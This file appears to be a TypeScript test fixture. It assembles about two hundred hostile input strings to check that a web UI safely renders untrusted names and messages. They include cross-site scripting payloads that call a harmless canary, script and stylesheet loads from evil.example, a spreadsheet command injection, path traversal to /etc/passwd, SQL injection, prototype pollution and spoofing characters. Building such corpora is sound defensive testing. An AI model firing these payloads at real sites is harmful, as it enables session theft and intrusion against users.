/** What every script below would call. It says so by calling `globalThis[canary]`. */
export const canary = '__wgCanary'
const run = `${canary}(1)`
const lines = (text: string): string[] =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '')

const tags = lines(`
  <script>${run}</script>
  <SCRIPT>${run}</SCRIPT>
  <script type=module>${run}</script>
  <script src=data:text/javascript,${run}></script>
  <script src=//evil.example/x.js></script>
  <scr<script>ipt>${run}</script>
  <script/x>${run}</script >
  <iframe srcdoc="<script>parent.${run}</script>"></iframe>
  <iframe src=javascript:parent.${run}>
  <object data=javascript:${run}></object>
  <embed src=javascript:${run}>
  <base href=//evil.example/>
  <link rel=stylesheet href=//evil.example/x.css>
  <meta http-equiv=refresh content=0;url=javascript:${run}>
  <style>*{background:url(//evil.example/?x)}</style>
  <style>@import '//evil.example/x.css';</style>
  <form action=javascript:${run}><button>Sign in again</button></form>
  <button formaction=javascript:${run}>Verify</button>
  <isindex action=javascript:${run} type=image>
  <template><script>${run}</script></template>
  <template shadowrootmode=open><script>${run}</script></template>
  <portal src=https://evil.example></portal>
  <dialog open><h1>Session expired</h1></dialog>
  <wg-provider base-url=https://evil.example token-endpoint=//evil.example></wg-provider>
  <wg-ui-dialog open heading="Enter your password"></wg-ui-dialog>
`)

const handlers = lines(`
  img src=x onerror
  img src onload
  image href=x onerror
  body onload
  body onpageshow
  input autofocus onfocus
  select autofocus onfocus
  textarea autofocus onfocus
  video src=x onerror
  video onloadstart
  audio src=x onerror
  details open ontoggle
  div popover id=p onbeforetoggle
  marquee onstart
  div onmouseover
  div onpointerenter
  div style=width:9in onwheel
  a href=# onclick
  div contenteditable oninput
  div style=animation-name:x onanimationstart
  div style=transition:all oncontentvisibilityautostatechange
  iframe onload
  object data=x onerror
  svg onload
  link rel=prefetch href=x onload
  style onload
  script src=x onerror
  input type=search onsearch
  form onformdata
  dialog open onclose
  track src=x onerror
  xss id=x tabindex=1 onfocusin
  wg-sessions onready
  keygen autofocus onfocus
`).map((start) => `<${start}=${run}>`)

const breakouts = lines(`
  "><img src=x onerror=${run}>
  '><img src=x onerror=${run}>
  \`><img src=x onerror=${run}>
  " onmouseover="${run}
  ' onfocus='${run}' autofocus='
  " autofocus onfocus=${run} x="
  x onerror=${run}
  "/onload=${run}//
  </textarea><script>${run}</script>
  </title><script>${run}</script>
  </style><script>${run}</script>
  </script><script>${run}</script>
  --><script>${run}</script><!--
  ]]><script>${run}</script>
  */${run}/*
  ';${run};//
  ";${run};//
  \\";${run};//
  \`;${run};\`
  );${run};(
  </bdi><b>free</b><bdi>
  </template><img src=x onerror=${run}>
  </td></tr></table><img src=x onerror=${run}>
`)

const drawings = lines(`
  <svg><script>${run}</script></svg>
  <svg><script href=data:,${run} /></svg>
  <svg><a href=javascript:${run}><text>x</text></a></svg>
  <svg><a xlink:href=javascript:${run}><text>x</text></a></svg>
  <svg><animate onbegin=${run} attributeName=x dur=1s>
  <svg><set attributeName=onmouseover to=${run}>
  <svg><animate attributeName=href values=javascript:${run} /><a id=x></a></svg>
  <svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>
  <svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>
  <svg><image href=x onerror=${run} /></svg>
  <svg><style><img src=x onerror=${run}></style></svg>
  <svg><discard onbegin=${run} /></svg>
  <math href=javascript:${run}>x</math>
  <math><mtext href=javascript:${run}>x</mtext></math>
  <math><annotation-xml encoding=text/html><script>${run}</script></annotation-xml></math>
  <math><maction actiontype=statusline xlink:href=javascript:${run}>x</maction></math>
`)

const mutations = lines(`
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">
  <svg></p><style><a id="</style><img src=x onerror=${run}>">
  <noscript><p title="</noscript><img src=x onerror=${run}>">
  <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>
  <listing>&lt;img src=x onerror=${run}&gt;</listing>
  <xmp><p title="</xmp><img src=x onerror=${run}>">
  <plaintext><img src=x onerror=${run}>
  <a href="x\`<img src=x onerror=${run}>">
  <select><style></select><img src=x onerror=${run}></style></select>
  <table><a><caption><img src=x onerror=${run}></table>
  <!--><img src=x onerror=${run}>-->
  <![CDATA[><img src=x onerror=${run}>]]>
  <?xml-stylesheet href=javascript:${run}?><x>
  <!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]>&y;
`)

const addresses = lines(`
  javascript:${run}
  JaVaScRiPt:${run}
  javascript&colon;${run}
  javascript://example.com/%0a${run}
  jav&#x09;ascript:${run}
  data:text/html,<script>${run}</script>
  data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
  vbscript:msgbox(1)
  blob:https://evil.example/1
  filesystem:https://evil.example/1
  view-source:javascript:${run}
  feed:javascript:${run}
  livescript:${run}
  mocha:${run}
  intent://scan/#Intent;scheme=javascript;end
  https://user:pass@evil.example/
  https://evil.example/"onmouseover="${run}
  https://evil.example/'onclick='${run}
  https://evil.example/<script>${run}</script>
  //evil.example/%2e%2e
  \\\\evil.example\\share
  mailto:x@evil.example?body=<script>${run}</script>
`)

const templates = lines(`
  \${${run}}
  {{${run}}}
  {{constructor.constructor('${run}')()}}
  {{$on.constructor('${run}')()}}
  <%= ${run} %>
  #{${run}}
  [[${run}]]
  {% raw %}${run}{% endraw %}
  <!--?lit$123456789$--><img src=x onerror=${run}>
  lit$123456789$
  <?lit$0$>
  .innerHTML=<img src=x onerror=${run}>
  @click=\${() => ${run}}
  <div v-html="'<img src=x onerror=${run}>'"></div>
  <div ng-app ng-csp>{{$eval.constructor('${run}')()}}</div>
  <div x-data x-init=${run}></div>
  {"_$litType$":1,"strings":["<img src=x onerror=${run}>"],"values":[]}
`)

const encodings = lines(`
  &lt;img src=x onerror=${run}&gt;
  &#60;img src=x onerror=${run}&#62;
  &#x3c;script&#x3e;${run}&#x3c;/script&#x3e;
  &amp;lt;script&amp;gt;
  %3Cscript%3E${run}%3C/script%3E
  %253Cscript%253E${run}%253C/script%253E
  \\u003cscript\\u003e${run}\\u003c/script\\u003e
  \\x3cimg src=x onerror=${run}\\x3e
  +ADw-script+AD4-${run}+ADw-/script+AD4-
  ＜script＞${run}＜/script＞
  ‹img src=x onerror=${run}›
  ¼script¾${run}¼/script¾
  &#0;&#x0;&nbsp;&lt&gt&quot
  &NewLine;&Tab;&colon;&lpar;&rpar;
`)

const polyglots = lines(`
  jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=${run}//>
  '"--></style></script><svg/onload=${run}>{{7*7}}\${7*7}
  "'><img/src/onerror=${run}>\`\${${run}}\`
  </noscript></textarea></select></template><img src=x onerror=${run}>
  BEGIN:VCARD;FN:<img src=x onerror=${run}>;END:VCARD
  =HYPERLINK("javascript:${run}";"x")
  +cmd|' /C calc'!A0
  {"__proto__":{"polluted":"<img src=x onerror=${run}>"}}
  ../../../../etc/passwd%00.jpg
  ' OR '1'='1' -- <b>
`)

const plain = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'undefined', 'null', 'NaN', '[object Object]']

/** Written as escapes: none of these may be seen, or trusted, in an editor either. */
const invisible = [
  'photo\u202egpj.exe',
  '\u2067\u0645\u0631\u062d\u0628\u0627\u2069 <b>x</b>',
  '\u0627\u0644\u0633\u0644\u0627\u0645 (abc) 123',
  '\u202a\u202b\u202c\u202d\u202eall marks',
  '\u2066never closed',
  'closed too often\u2069\u2069\u202c',
  'zero\u200bwidth\u200c\u200d\ufeffjoined',
  '<\u200bscript>x</script>',
  '<\u0000script>x</script>',
  `java\u0000script:${run}`,
  `java\u2028script:${run}`,
  '\ud800 half of a pair',
  'the other half \udfff',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aa\u0323\u034ex',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} family',
  '\u{e0001}\u{e0041}\u{e007f}tagged',
  'W'.repeat(140),
  'r\u0301e\u0301sume\u0301 / r\u00e9sum\u00e9',
  '\u0430\u0440\u0440\u04cf\u0435.com',
  'bell\u0007 escape\u001b[31m delete\u007f',
]

/** About two hundred texts that strangers may put where a name, a message or a reason is expected. */
export const corpus: readonly string[] = [
  ...[tags, handlers, breakouts, drawings, mutations, addresses, templates, encodings, polyglots].flat(),
  ...plain,
  ...invisible,
]
